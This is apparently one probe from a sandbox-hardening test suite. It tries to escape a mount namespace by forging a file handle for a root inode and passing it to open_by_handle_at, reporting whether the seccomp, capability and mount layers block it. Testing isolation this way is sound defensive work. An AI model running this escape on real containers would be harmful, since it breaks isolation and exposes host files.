# technique: file handles, which ignore the view of mounts
# family: C1
# severity: C
# layers: seccomp, capabilities, mount_namespace
# profile: python-full
import ctypes
import struct

handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0), 136)
mount = ctypes.c_int()
r, e = call("name_to_handle_at", -100, b"@READABLE@", handle, ctypes.byref(mount), 0)
if not e:
    won("handle of a host file on mount %d" % mount.value)
else:
    # An invented one: the root inode of the file system that descriptor 0 is on.
    r, e2 = call("open_by_handle_at", 0, struct.pack("<IiII", 8, 1, 2, 0), 0)
    if e2:
        held("name_to_handle_at: %s; open_by_handle_at: %s" % (e, e2))
    else:
        won("an invented handle gave descriptor %d" % r)
